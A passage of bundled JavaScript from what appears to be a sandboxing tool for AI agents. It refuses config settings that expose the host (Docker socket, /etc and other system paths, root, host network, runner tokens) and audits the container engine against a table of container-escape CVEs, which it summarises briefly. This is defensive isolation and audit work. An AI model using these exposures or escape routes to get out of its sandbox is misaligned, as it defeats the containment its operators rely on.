    const end = Date.now() + START_TIMEOUT_MS;
    for (;;) {
        const log = (0,external_node_fs_.existsSync)(logFile) ? (0,external_node_fs_.readFileSync)(logFile, 'utf8') : '';
        const m = /MCP server \(Streamable HTTP\) at (http:\/\/\S+)/.exec(log);
        if (m)
            return m[1];
        if (exited() !== null || Date.now() > end) {
            throw new errors/* EnvironmentError */.eG(`the MCP server did not start:\n${log.slice(-4000)}`, 'see the log above');
        }
        await new Promise((r) => setTimeout(r, 200));
    }
}
/** Post: SIGTERM, wait for the server to finish its reports, then report as a run does. */
async function stopServer() {
    const pid = Number(lib_core/* getState */.Gu(PID));
    if (!pid)
        return;
    const logFile = lib_core/* getState */.Gu(LOG);
    try {
        process.kill(pid, 'SIGTERM');
    }
    catch {
        lib_core/* info */.pq(`massgen-exec post: the MCP server (pid ${pid}) had already exited`);
    }
    const end = Date.now() + 60_000;
    while (alive(pid) && Date.now() < end)
        await new Promise((r) => setTimeout(r, 200));
    if (alive(pid)) {
        lib_core/* warning */.$e(`massgen-exec post: the MCP server (pid ${pid}) did not stop; killing it`);
        process.kill(pid, 'SIGKILL');
    }
    if (logFile && (0,external_node_fs_.existsSync)(logFile)) {
        lib_core/* startGroup */.Oh('massgen-exec MCP server log');
        lib_core/* info */.pq((0,external_node_fs_.readFileSync)(logFile, 'utf8').slice(-20000));
        lib_core/* endGroup */.N4();
    }
    const { getInputs } = await Promise.resolve(/* import() */).then(__webpack_require__.bind(__webpack_require__, 81729));
    const inputs = getInputs();
    const resultsFile = (0,external_node_path_.join)((0,external_node_path_.resolve)(inputs.outputDir), 'results.json');
    const results = JSON.parse((0,external_node_fs_.readFileSync)(resultsFile, 'utf8'));
    await report(inputs, { results, reports: { resultsFile } });
}
function alive(pid) {
    try {
        process.kill(pid, 0);
        return true;
    }
    catch {
        return false;
    }
}


/***/ }),

/***/ 75106:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   B6: () => (/* binding */ describeSource),
/* harmony export */   H_: () => (/* binding */ refuseUnsafe),
/* harmony export */   LJ: () => (/* binding */ findAgentUnsafe),
/* harmony export */   SB: () => (/* binding */ parseUnsafeClasses),
/* harmony export */   lm: () => (/* binding */ unsafeSummary),
/* harmony export */   sm: () => (/* binding */ hostFacts)
/* harmony export */ });
/* unused harmony exports UNSAFE_CLASSES, isUnsafeAllowed, allowHint, issueOf, classesOf, SYSTEM_DIRS, engineSockets, pathExposure, keyName */
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(73024);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var node_os__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(48161);
/* harmony import */ var node_os__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_os__WEBPACK_IMPORTED_MODULE_1__);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(76760);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_2___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_2__);
/* harmony import */ var _errors_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(83916);
/* harmony import */ var _lib_paths_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(9927);
/* harmony import */ var _lib_user_js__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(89332);
// Settings that expose the host to the agent, found in a loaded config: the Docker socket, host
// system paths, root in the container, the host's network, the host's environment, and no sandbox
// at all. In a pull request the config is written by the agent under review, so none of them may
// come from the config alone: the invoker (CLI --allow-unsafe, action input allow-unsafe) allows
// a class, never the config. Detection is here (with positions, from load.ts); enforcement is
// `refuseUnsafe`, called by everything that starts sandboxes (run, verify-isolation, mcp) and by
// validate.






const UNSAFE_CLASSES = [
    'docker-socket',
    'host-paths',
    'root-user',
    'host-network',
    'host-env',
    'no-sandbox'
];
/**
 * Whether the invoker allowed an unsafe class for this run (e.g. `root-user` before a container
 * runs as uid 0). Works on the RunPlan and on each AgentPlan; false before `refuseUnsafe` ran.
 */
function isUnsafeAllowed(who, cls) {
    return who?.allowUnsafe?.includes(cls) ?? false;
}
/** `docker-socket,host-paths root-user` → classes; an unknown name is a usage error. */
function parseUnsafeClasses(value, what) {
    const names = (value ?? '')
        .split(/[,\s]+/)
        .map((s) => s.trim())
        .filter(Boolean);
    const unknown = names.filter((n) => !UNSAFE_CLASSES.includes(n));
    if (unknown.length) {
        throw new _errors_js__WEBPACK_IMPORTED_MODULE_3__/* .UsageError */ .eb(`${what}: unknown class ${unknown.map((u) => JSON.stringify(u)).join(', ')} (known: ${UNSAFE_CLASSES.join(', ')})`);
    }
    return [...new Set(names)];
}
function allowHint(cls) {
    return `refused unless the invoker allows it: --allow-unsafe ${cls} (action input allow-unsafe: ${cls}); the config cannot allow it`;
}
/**
 * Throws a ConfigError naming every unsafe setting the invoker did not allow; returns the lines
 * to warn with (a local agent from the CLI). On success the plan and its agents carry the
 * allowance (`isUnsafeAllowed`).
 */
function refuseUnsafe(plan, opts) {
    const ids = new Set(plan.agents.map((a) => a.id));
    const found = (plan.unsafe ?? []).filter((f) => ids.has(f.agent) && !(f.class === 'no-sandbox' && opts.surface === 'probe'));
    const warnOnly = (f) => f.class === 'no-sandbox' && opts.surface === 'cli';
    // A setting shared through an anchor is one line, however many agents use it.
    const place = (f) => `${f.file}:${f.line}:${f.col}:${f.class}`;
    const refused = found
        .filter((f) => !opts.allow.includes(f.class) && !warnOnly(f))
        .filter((f, n, all) => all.findIndex((g) => place(g) === place(f)) === n)
        .map((f) => issueOf(f));
    if (refused.length)
        throw new _errors_js__WEBPACK_IMPORTED_MODULE_3__/* .ConfigError */ .xL(refused);
    plan.allowUnsafe = [...opts.allow];
    for (const a of plan.agents)
        a.allowUnsafe = [...opts.allow];
    return found
        .filter((f) => warnOnly(f) && !opts.allow.includes(f.class))
        .map((f) => `${f.file}:${f.line}:${f.col}: warning: ${f.key}: ${f.message} (no-sandbox; the action refuses it unless allow-unsafe lists no-sandbox)`);
}
function issueOf(f) {
    return {
        file: f.file,
        line: f.line,
        col: f.col,
        message: `unsafe setting (${f.class}): ${f.key}: ${f.message}; ${allowHint(f.class)}`
    };
}
/** Sorted, de-duplicated classes of a list of findings. */
function classesOf(found) {
    return UNSAFE_CLASSES.filter((c) => found.some((f) => f.class === c));
}
// ---- detection ------------------------------------------------------------------------------
/** Directories whose mount exposes the host (the directory itself, or `/`). */
const SYSTEM_DIRS = [
    '/etc',
    '/root',
    '/home',
    '/var',
    '/proc',
    '/sys',
    '/dev',
    '/boot',
    '/usr'
];
/** Directories whose every part is the host's own (secrets, devices, kernel, boot). */
const SENSITIVE_TREES = ['/etc', '/root', '/proc', '/sys', '/dev', '/boot', '/var/lib/docker'];
/** The engine sockets a mount must not reach: the usual places, DOCKER_HOST, rootless Docker. */
function engineSockets(env = process.env) {
    const list = [
        '/var/run/docker.sock',
        '/run/docker.sock',
        '/run/containerd/containerd.sock',
        '/var/run/containerd/containerd.sock',
        '/run/podman/podman.sock'
    ];
    const host = env.DOCKER_HOST;
    if (host?.startsWith('unix://'))
        list.push(host.slice('unix://'.length));
    if (env.XDG_RUNTIME_DIR)
        list.push(`${env.XDG_RUNTIME_DIR}/docker.sock`);
    return withRealPaths(list.map((p) => (0,node_path__WEBPACK_IMPORTED_MODULE_2__.resolve)(p)));
}
function withRealPaths(paths) {
    const out = new Set(paths);
    for (const p of paths) {
        const real = realOf(p);
        if (real)
            out.add(real);
    }
    return [...out];
}
function realOf(p) {
    try {
        return (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.existsSync)(p) ? (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.realpathSync)(p) : undefined;
    }
    catch {
        return undefined;
    }
}
function hostFacts(workingDirectory) {
    return { workingDirectory, home: (0,node_os__WEBPACK_IMPORTED_MODULE_1__.homedir)(), sockets: engineSockets() };
}
/**
 * What mounting (or allowing) a host path exposes. Checked as written and after symlinks (a link
 * in the pull request's tree to `/` is `/`). `inside` lists the paths a writable one may be in.
 */
function pathExposure(path, host, opts = {}) {
    const out = new Map();
    const add = (f) => out.set(f.class, out.get(f.class) ?? f);
    const real = realOf(path);
    for (const p of real && real !== path ? [path, real] : [path]) {
        const via = p === path ? '' : ` (a symlink to ${p})`;
        const socket = host.sockets.find((s) => (0,_lib_paths_js__WEBPACK_IMPORTED_MODULE_4__/* .isInside */ .F)(s, p));
        if (socket) {
            add({
                class: 'docker-socket',
                message: (socket === p
                    ? `${path}${via} is the container engine's socket`
                    : `${path}${via} contains the container engine's socket ${socket}`) +
                    ': whoever reaches it controls the host'
            });
        }
        const system = p === '/' || SYSTEM_DIRS.includes(p);
        const sensitive = SENSITIVE_TREES.find((d) => (0,_lib_paths_js__WEBPACK_IMPORTED_MODULE_4__/* .isInside */ .F)(p, d));
        if (system) {
            add({
                class: 'host-paths',
                message: `${path}${via} is ${p === '/' ? "the host's root" : `the system directory ${p}`}`
            });
        }
        else if (sensitive && !(0,_lib_paths_js__WEBPACK_IMPORTED_MODULE_4__/* .isInside */ .F)(p, host.workingDirectory)) {
            add({
                class: 'host-paths',
                message: `${path}${via} is inside the system directory ${sensitive}`
            });
        }
        else if ((0,_lib_paths_js__WEBPACK_IMPORTED_MODULE_4__/* .isInside */ .F)(host.home, p)) {
            add({
                class: 'host-paths',
                message: `${path}${via} contains the runner's home directory ${host.home}`
            });
        }
        else if (opts.writable &&
            socket !== p &&
            opts.inside &&
            !opts.inside.some((d) => (0,_lib_paths_js__WEBPACK_IMPORTED_MODULE_4__/* .isInside */ .F)(p, d))) {
            add({
                class: 'host-paths',
                message: `${path}${via} is writable and outside the workspace, the context paths and the temporary workspace`
            });
        }
    }
    return [...out.values()];
}
function keyName(keys) {
    return keys
        .map((k, i) => typeof k === 'number'
        ? `[${k}]`
        : /^[A-Za-z0-9_-]+$/.test(k)
            ? `${i ? '.' : ''}${k}`
            : `[${JSON.stringify(k)}]`)
        .join('');
}
const asList = (v) => (Array.isArray(v) ? v : []);
/** Every unsafe setting of one agent, at the key that writes it. */
function findAgentUnsafe(src) {
    const { plan } = src;
    const bp = [...src.agentPath, 'backend'];
    const out = [];
    const add = (keys, f, pos = src.keyAt(keys)) => out.push({ ...pos, class: f.class, agent: plan.id, key: keyName(keys), message: f.message });
    if (plan.mode === 'local') {
        localAgentUnsafe(src, bp, add);
        return out;
    }
    const inside = [
        plan.workspace,
        ...plan.contextPaths.map((c) => c.path),
        ...(plan.tempWorkspace ? [plan.tempWorkspace] : [])
    ];
    const insideReal = withRealPaths(inside);
    const checkPath = (keys, path, writable, pos) => {
        for (const f of pathExposure(path, src.host, { writable, inside: insideReal }))
            add(keys, f, pos ?? src.at(keys));
    };
    const check = { src, bp, add, inside, checkPath };
    agentPathsUnsafe(check);
    if (plan.srt)
        srtSocketsUnsafe(check);
    if (!plan.docker)
        return out;
    dockerUnsafe(check, plan.docker);
    if (plan.docker.credentials)
        credentialsUnsafe(check, plan.docker.credentials);
    return out;
}
/** Nothing isolates a local agent; one that runs nothing exposes nothing. */
function localAgentUnsafe(src, bp, add) {
    const { plan, backend } = src;
    if (plan.steps.length === 0)
        return;
    const keys = backend.command_line_execution_mode
        ? [...bp, 'command_line_execution_mode']
        : [...src.agentPath, 'commands'];
    add(keys, {
        class: 'no-sandbox',
        message: `agent ${plan.id} runs its commands on the host with no sandbox (execution mode local)`
    });
}
/** The workspace, context paths and temporary workspace, each at the key that names it. */
function agentPathsUnsafe({ src, bp, checkPath }) {
    const { plan, backend } = src;
    // The workspace is mounted (or allowed) read-write; `cwd: ../../..` can climb to /.
    if (src.cwdGiven)
        checkPath([...bp, 'cwd'], plan.workspace, false);
    const contextLists = [
        [backend.context_paths, [...bp, 'context_paths']],
        [src.orchestrator.context_paths, ['orchestrator', 'context_paths']]
    ];
    for (const [list, p] of contextLists) {
        asList(list).forEach((entry, i) => {
            const e = (typeof entry === 'string' ? { path: entry } : (entry ?? {}));
            if (e.path === undefined || e.path === null)
                return;
            const keys = typeof entry === 'string' ? [...p, i] : [...p, i, 'path'];
            checkPath(keys, src.resolvePath(String(e.path)), false);
        });
    }
    if (plan.tempWorkspace) {
        const keys = src.orchestrator.agent_temporary_workspace !== undefined
            ? ['orchestrator', 'agent_temporary_workspace']
            : [...bp, 'agent_temporary_workspace'];
        checkPath(keys, plan.tempWorkspace, false);
    }
}
/** srt's allowed Unix sockets: the container engine's socket among them. */
function srtSocketsUnsafe({ src, bp, add }) {
    asList(src.backend.command_line_srt_allow_unix_sockets).forEach((s, i) => {
        const keys = [...bp, 'command_line_srt_allow_unix_sockets', i];
        for (const f of pathExposure(src.resolvePath(String(s)), src.host))
            if (f.class === 'docker-socket')
                add(keys, f, src.at(keys));
    });
}
/** A root user the config asks for, and the host's network. */
function dockerUnsafe({ src, bp, add }, d) {
    // Only the config's own user counts: a default (e.g. the checkout's owner) never makes root.
    const user = src.backend.command_line_docker_user;
    if (user !== undefined && user !== null && (0,_lib_user_js__WEBPACK_IMPORTED_MODULE_5__/* .uidOf */ .kz)(String(user)) === 0) {
        add([...bp, 'command_line_docker_user'], {
            class: 'root-user',
            message: `commands run as uid 0 (${String(user)}) in the container: root there is one kernel bug from root on the host`
        });
    }
    if (d.network === 'host') {
        add([...bp, 'command_line_docker_network_mode'], {
            class: 'host-network',
            message: "the container shares the host's network: it reaches the runner's loopback services and every address, around the egress allowlist"
        });
    }
}
/** command_line_docker_credentials: host mounts, the runner's credentials and environment. */
function credentialsUnsafe(check, creds) {
    const { src, bp, add, checkPath } = check;
    const { host } = src;
    const cp = [...bp, 'command_line_docker_credentials'];
    const rawMounts = (src.backend.command_line_docker_credentials
        ?.additional_mounts ?? {});
    Object.keys(rawMounts).forEach((host_, i) => {
        const m = creds.additionalMounts[i];
        if (!m)
            return;
        const keys = [...cp, 'additional_mounts', host_];
        checkPath(keys, m.hostPath, m.mode === 'rw', src.keyAt(keys));
    });
    asList(creds.mount).forEach((name, i) => {
        add([...cp, 'mount', i], {
            class: 'host-paths',
            message: `mounts the runner's ${String(name)} (from its home directory ${host.home}) into the container`
        }, src.at([...cp, 'mount', i]));
    });
    if (creds.passAllEnv) {
        add([...cp, 'pass_all_env'], {
            class: 'host-env',
            message: "copies the runner's whole environment (tokens included) into the container"
        });
    }
    if (creds.envFile)
        envFileUnsafe(check, cp, creds.envFile);
    asList(creds.envVars).forEach((name, i) => {
        if (!/^ACTIONS_/.test(String(name)))
            return;
        add([...cp, 'env_vars', i], {
            class: 'host-env',
            message: `copies the runner's ${String(name)} (its cache, artifact and token service credentials) into the container`
        }, src.at([...cp, 'env_vars', i]));
    });
}
/** An env_file outside the working directory and the agent's paths (or a symlink leading out). */
function envFileUnsafe({ src, add, inside }, cp, envFile) {
    const allowed = withRealPaths([src.host.workingDirectory, ...inside]);
    const real = realOf(envFile) ?? envFile;
    if ([envFile, real].every((p) => allowed.some((d) => (0,_lib_paths_js__WEBPACK_IMPORTED_MODULE_4__/* .isInside */ .F)(p, d))))
        return;
    add([...cp, 'env_file'], {
        class: 'host-env',
        message: `reads ${envFile}${real !== envFile ? ` (a symlink to ${real})` : ''}, outside the working directory and the agent's paths, into the container's environment`
    }, src.at([...cp, 'env_file']));
}
/** The record results.json keeps: what was allowed, and what of it the config uses. */
function unsafeSummary(plan) {
    const ids = new Set(plan.agents.map((a) => a.id));
    return {
        allowed: plan.allowUnsafe ?? [],
        used: (plan.unsafe ?? [])
            .filter((f) => ids.has(f.agent))
            .map((f) => ({
            class: f.class,
            agent: f.agent,
            key: f.key,
            at: `${f.file}:${f.line}:${f.col}`
        }))
    };
}
/** A line for logs and summaries: where the config came from. */
function describeSource(s) {
    if (!s)
        return 'unknown';
    if (s.kind === 'worktree')
        return `${s.path} (work tree${s.blob ? `, blob ${s.blob}` : ''})`;
    return `${s.path} at revision ${s.ref}${s.commit ? ` (commit ${s.commit}, blob ${s.blob})` : ''}`;
}


/***/ }),

/***/ 59676:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  fh: () => (/* reexport */ expectRuntimeOption),
  Pl: () => (/* reexport */ headline),
  Qk: () => (/* reexport */ renderIsolationHtml),
  Al: () => (/* reexport */ verifyIsolation)
});

// UNUSED EXPORTS: CANARY_NAME

// EXTERNAL MODULE: external "node:crypto"
var external_node_crypto_ = __webpack_require__(77598);
// EXTERNAL MODULE: external "node:fs/promises"
var promises_ = __webpack_require__(51455);
// EXTERNAL MODULE: external "node:os"
var external_node_os_ = __webpack_require__(48161);
// EXTERNAL MODULE: ./src/config/unsafe.ts
var config_unsafe = __webpack_require__(75106);
// EXTERNAL MODULE: ./src/errors.ts
var errors = __webpack_require__(83916);
// EXTERNAL MODULE: ./src/report/files.ts
var files = __webpack_require__(50561);
// EXTERNAL MODULE: ./src/report/junit.ts
var junit = __webpack_require__(42998);
// EXTERNAL MODULE: ./src/run/plan.ts + 16 modules
var run_plan = __webpack_require__(27323);
// EXTERNAL MODULE: ./src/run/scope.ts + 2 modules
var scope = __webpack_require__(80808);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
// EXTERNAL MODULE: ./src/runtime/docker/index.ts + 34 modules
var docker = __webpack_require__(21002);
// EXTERNAL MODULE: ./src/lib/user.ts
var user = __webpack_require__(89332);
;// CONCATENATED MODULE: ./src/isolation/cves.ts
// Known container-escape (and engine-boundary) CVEs, with the upstream versions that fix them, and
// the comparison that says which are open on an engine. Checked against the upstream advisories
// and release notes; the Debian backports listed were checked against Debian's own package
// changelogs. Severity here is about *this* tool's setup, not CVSS: `critical` when an agent (a
// process inside a container we exec into) can use it, `high` when it needs something the agent
// does not control (a malicious image, the mount configuration, an AuthZ plugin, host networking).
const KNOWN_CVES = [
    {
        // NVD: "runc through 1.0-rc6 ... allows attackers to overwrite the host runc binary"; the
        // first release with the fix is 1.0.0-rc7 (Docker shipped a patched rc6 in 18.09.2).
        id: 'CVE-2019-5736',
        component: 'runc',
        fixedIn: ['1.0.0-rc7'],
        vector: 'exec',
        summary: 'overwrite of the host runc binary through /proc/self/exe',
        notUnderGvisor: "runc never enters the container: an exec asks runsc, which has gVisor's sentry start the process, and /proc/self/exe inside is gVisor's"
    },
    {
        id: 'CVE-2021-30465',
        component: 'runc',
        fixedIn: ['1.0.0-rc95'],
        vector: 'mount-config',
        summary: 'symlink-exchange race in mount destinations',
        notUnderGvisor: "runsc, not runc, sets up the container's mounts (through its gofer)"
    },
    {
        id: 'CVE-2024-21626',
        component: 'runc',
        fixedIn: ['1.1.12'],
        vector: 'exec',
        summary: '"Leaky Vessels": leaked host fd as the working directory of runc run/exec',
        notUnderGvisor: "runc never runs the container's processes, so no runc fd can leak into them"
    },
    {
        id: 'CVE-2025-31133',
        component: 'runc',
        fixedIn: ['1.2.8', '1.3.3', '1.4.0-rc.3'],
        vector: 'image',
        summary: 'maskedPaths /dev/null replaced by a symlink during container creation',
        notUnderGvisor: 'runc never creates the container (runsc does, with its own /dev and masked paths)'
    },
    {
        id: 'CVE-2025-52565',
        component: 'runc',
        fixedIn: ['1.2.8', '1.3.3', '1.4.0-rc.3'],
        vector: 'image',
        summary: '/dev/console bind-mount race during container creation',
        notUnderGvisor: 'runc never creates the container (runsc does, with its own /dev/console)'
    },
    {
        id: 'CVE-2025-52881',
        component: 'runc',
        fixedIn: ['1.2.8', '1.3.3', '1.4.0-rc.3'],
        vector: 'image',
        summary: 'LSM bypass and /proc write redirection through racing shared mounts',
        notUnderGvisor: "runc never creates the container; the agent's /proc is gVisor's own"
    },
    {
        id: 'CVE-2020-15257',
        component: 'containerd',
        fixedIn: ['1.3.9', '1.4.3'],
        vector: 'host-network',
        summary: 'containerd-shim abstract socket reachable from host-network containers',
        notUnderGvisor: "the sandbox's socket calls never reach the host's abstract Unix sockets (gVisor has its own; network none; host networking passes inet sockets only)"
    },
    {
        id: 'CVE-2024-41110',
        component: 'docker',
        fixedIn: ['23.0.15', '25.0.6', '26.1.5', '27.1.1'],
        vector: 'authz',
        summary: 'AuthZ plugin bypass with a zero-length request body'
    }
];
/**
 * Distribution packages known to carry the fix although their upstream version predates it,
 * checked in the package's changelog (`/usr/share/doc/<pkg>/changelog.Debian.gz`). Matched against
 * the full package version the engine reports (runc's and containerd's GitCommit carry it; the
 * engine's own version does not, so docker.io backports cannot be recognised through the API).
 */
const DISTRO_FIXES = [
    {
        cve: 'CVE-2024-21626',
        component: 'runc',
        // Debian bookworm-security: runc (1.1.5+ds1-1+deb12u1) "CVE-2024-21626: several container
        // breakouts due to internally leaked fds"; later deb12uN revisions keep it.
        packageVersion: /^1\.1\.5\+ds1-1\+deb12u([1-9]\d*)$/,
        note: 'Debian 1.1.5+ds1-1+deb12u1'
    }
];
/**
 * Parses the versions engines report: 1.1.12, v1.0.0-rc95, 1.0-rc6, 1.4.0-rc.3, 1.1.5+ds1,
 * 1.6.20~ds1, 20.10.24+dfsg1, 27.1.1-1ubuntu1. Distribution and build suffixes are dropped.
 */
function parseVersion(text) {
    const m = /^v?(\d+(?:\.\d+)*)(?:-((?:rc|alpha|beta|dev)[.\d]*\w*))?/i.exec(text.trim());
    if (!m)
        return undefined;
    const nums = m[1].split('.').map(Number);
    while (nums.length < 3)
        nums.push(0);
    const pre = m[2]
        ? (m[2].match(/[a-z]+|\d+/gi) ?? []).map((p) => (/^\d+$/.test(p) ? Number(p) : p.toLowerCase()))
        : [];
    return { nums, pre };
}
/** Negative when a < b. A pre-release sorts before its release. */
function compareVersions(a, b) {
    for (let i = 0; i < Math.max(a.nums.length, b.nums.length); i++) {
        const d = (a.nums[i] ?? 0) - (b.nums[i] ?? 0);
        if (d)
            return d;
    }
    if (!a.pre.length || !b.pre.length)
        return (a.pre.length ? -1 : 0) - (b.pre.length ? -1 : 0);
    for (let i = 0; i < Math.max(a.pre.length, b.pre.length); i++) {
        const x = a.pre[i];
        const y = b.pre[i];
        if (x === undefined)
            return -1;
        if (y === undefined)
            return 1;
        if (x === y)
            continue;
        if (typeof x === 'number' && typeof y === 'number')
            return x - y;
        return String(x) < String(y) ? -1 : 1;
    }
    return 0;
}
/**
 * Whether `version` lacks the fix. A release on a branch that has a fix needs at least that fix;
 * on a branch without one, it is vulnerable if any fixed release is newer (the branch never got
 * the fix), and fixed if it is newer than all of them.
 */
function isVulnerable(version, fixedIn) {
    const fixes = fixedIn.map((f) => parseVersion(f)).sort(compareVersions);
    const branch = (v) => `${v.nums[0]}.${v.nums[1]}`;
    const same = fixes.find((f) => branch(f) === branch(version));
    if (same)
        return compareVersions(version, same) < 0;
    return fixes.some((f) => compareVersions(version, f) < 0);
}
/** A version string that a distribution built (its backports cannot be judged by number). */
function isDistroBuild(text) {
    return /[+~](ds|dfsg)\d*|deb\d+u\d+|ubuntu|\.el\d|\.fc\d|\+git/i.test(text);
}
function evaluateCves(components, exposure, table = KNOWN_CVES) {
    const findings = [];
    for (const cve of table) {
        const component = components.find((c) => c.component === cve.component);
        if (!component)
            continue;
        const version = parseVersion(component.version);
        if (!version)
            continue;
        if (exposure.gvisor && cve.notUnderGvisor) {
            findings.push({ cve, component, state: 'not-applicable', reason: cve.notUnderGvisor });
            continue;
        }
        if (!isVulnerable(version, cve.fixedIn)) {
            findings.push({ cve, component, state: 'fixed', how: 'upstream' });
            continue;
        }
        const backport = DISTRO_FIXES.find((d) => d.cve === cve.id &&
            d.component === cve.component &&
            component.packageVersion &&
            d.packageVersion.test(component.packageVersion));
        if (backport) {
            findings.push({ cve, component, state: 'fixed', how: 'distro', note: backport.note });
            continue;
        }
        const { severity, reason } = severityFor(cve.vector, exposure);
        findings.push({
            cve,
            component,
            state: 'open',
            severity,
            reason,
            distro: isDistroBuild(`${component.version} ${component.packageVersion ?? ''}`)
        });
    }
    return findings;
}
function severityFor(vector, e) {
    switch (vector) {
        case 'exec':
            return {
                severity: 'critical',
                reason: 'reachable from inside any container the engine execs into'
            };
        case 'image':
            return e.ownImage
                ? {
                    severity: 'high',
                    reason: 'needs a malicious image; this agent uses our locally built image'
                }
                : {
                    severity: 'critical',
                    reason: 'needs a malicious image; this agent uses a third-party image'
                };
        case 'mount-config':
            return {
                severity: 'high',
                reason: 'needs control over the mount configuration, which comes from the config'
            };
        case 'host-network':
            return e.hostNetwork
                ? { severity: 'critical', reason: 'this agent uses host networking' }
                : { severity: 'high', reason: 'needs host networking, which this agent does not use' };
        case 'authz':
            return e.authzPlugins.length
                ? {
                    severity: 'critical',
                    reason: `the engine uses AuthZ plugins (${e.authzPlugins.join(', ')})`
                }
                : { severity: 'high', reason: 'needs an AuthZ plugin; this engine has none' };
    }
}

// EXTERNAL MODULE: ./src/lib/shell.ts
var shell = __webpack_require__(66861);
;// CONCATENATED MODULE: ./src/isolation/outcome.ts

const pass = (detail) => ({ status: 'pass', detail });
const fail = (detail) => ({ status: 'fail', detail });
const skip = (detail) => ({ status: 'skip', detail });
/** Quotes a string for /bin/sh. */
const sh = shell/* shellQuote */.Z;
/** Lines of the form `TAG rest` printed by a probe script, by tag. */
function tagged(output, tag) {
    const prefix = `${tag} `;
    return output
        .split('\n')
        .filter((l) => l.startsWith(prefix))
        .map((l) => l.slice(prefix.length).trim());
}
/** A list for a detail line, shortened after `max` items. */
function list(items, max = 6) {
    if (items.length <= max)
        return items.join(', ');
    return `${items.slice(0, max).join(', ')} and ${items.length - max} more`;
}
/** Runs `script` with python3 from a quoted heredoc, so nothing in it is expanded by the shell. */
function python(script, args = []) {
    return `python3 - ${args.map(sh).join(' ')} <<'MASSGEN_PY'\n${script}\nMASSGEN_PY`;
}
const NO_PYTHON = 'python3 is not in the image, and this probe needs it for the syscall it tries';
const isOutcome = (x) => typeof x === 'object' && x !== null && 'status' in x && 'detail' in x;
/**
 * Runs a probe's attempts as the agent, followed by `echo DONE`: the result, or the fail that says
 * `what` did not complete (a script cut short proves nothing either way).
 */
async function attempts(ctx, lines, what, timeoutMs) {
    const r = await ctx.agentExec([...lines, 'echo DONE'].join('\n'), timeoutMs ? { timeoutMs } : undefined);
    return r.stdout.includes('DONE') ? r : fail(`${what} did not complete (exit ${r.exitCode})`);
}

;// CONCATENATED MODULE: ./src/isolation/probes/cleanup.ts
// Probe 20: once the check has cleaned up, no container labelled with its run id remains.


/** Containers of the run whose agent label is one of `agentIds`. */
function leftoverContainers(client, runId) {
    return client.listContainers({ labels: [`${docker.LABEL_RUN}=${runId}`] });
}
function cleanupOutcome(left, agentIds) {
    const mine = left.filter((c) => agentIds.includes(c.Labels?.[docker.LABEL_AGENT] ?? ''));
    if (mine.length)
        return fail(`left after cleanup: ${list(mine.map((c) => `${(c.Names?.[0] ?? c.Id).replace(/^\//, '')} (${c.State})`))}`);
    return pass(`no container labelled with the run id remains (${left.length} of the whole run)`);
}
const CLEANUP_PROBE = {
    id: 'cleanup',
    number: 20,
    title: 'after cleanup no container with the run label remains'
};

;// CONCATENATED MODULE: ./src/isolation/probes/engine.ts


const ENGINE_PROBE = {
    id: 'engine-cves',
    number: 21,
    title: 'engine audit: runc, containerd and Docker against known container-escape CVEs'
};
async function engineFacts(client) {
    const version = await client.version();
    const sys = await client.info().catch(() => ({}));
    const comps = version.Components ?? [];
    const find = (name) => comps.find((c) => c.Name.toLowerCase() === name);
    const components = [];
    const dockerVersion = find('engine')?.Version ?? version.Version;
    if (dockerVersion)
        components.push({ component: 'docker', version: dockerVersion });
    for (const name of ['runc', 'containerd']) {
        const c = find(name);
        // runc and containerd report the package version as GitCommit on distribution builds.
        if (c)
            components.push({
                component: name,
                version: c.Version,
                packageVersion: c.Details?.GitCommit || undefined
            });
    }
    return {
        info: {
            docker: dockerVersion,
            apiVersion: version.ApiVersion,
            containerd: find('containerd')
                ? `${find('containerd').Version} (${find('containerd').Details?.GitCommit ?? ''})`
                : undefined,
            runc: find('runc')
                ? `${find('runc').Version} (${find('runc').Details?.GitCommit ?? ''})`
                : undefined,
            init: find('docker-init')?.Version,
            runtimes: Object.keys(sys.Runtimes ?? {}).sort(),
            defaultRuntime: sys.DefaultRuntime,
            cgroupVersion: sys.CgroupVersion,
            os: sys.OperatingSystem,
            kernel: version.KernelVersion
        },
        components,
        authzPlugins: sys.Plugins?.Authorization ?? [],
        runtime: {
            runtimes: sys.Runtimes ?? {},
            defaultRuntime: sys.DefaultRuntime ?? 'runc',
            kernel: version.KernelVersion
        }
    };
}
function exposureOf(agent, facts) {
    const check = (0,docker.checkRuntime)(agent.docker ?? (0,docker.dockerDefaults)(), {
        Runtimes: facts.runtime.runtimes,
        DefaultRuntime: facts.runtime.defaultRuntime
    });
    return {
        ownImage: agent.docker?.ownImage ?? true,
        hostNetwork: agent.docker?.network === 'host',
        authzPlugins: facts.authzPlugins,
        gvisor: check.ok && check.runtime.gvisor
    };
}
function describe(f) {
    const c = f.component;
    const v = c.packageVersion && c.packageVersion !== c.version
        ? `${c.version} (package ${c.packageVersion})`
        : c.version;
    return `${f.cve.id} ${c.component} ${v} < ${f.cve.fixedIn.join('/')} [${f.severity}: ${f.reason}]`;
}
function engineOutcome(findings) {
    const open = findings.filter((f) => f.state === 'open');
    const fixed = findings.filter((f) => f.state === 'fixed');
    const moot = findings.filter((f) => f.state === 'not-applicable');
    const hard = open.filter((f) => f.severity === 'critical' && !f.distro);
    const backported = fixed.filter((f) => f.state === 'fixed' && f.how === 'distro');
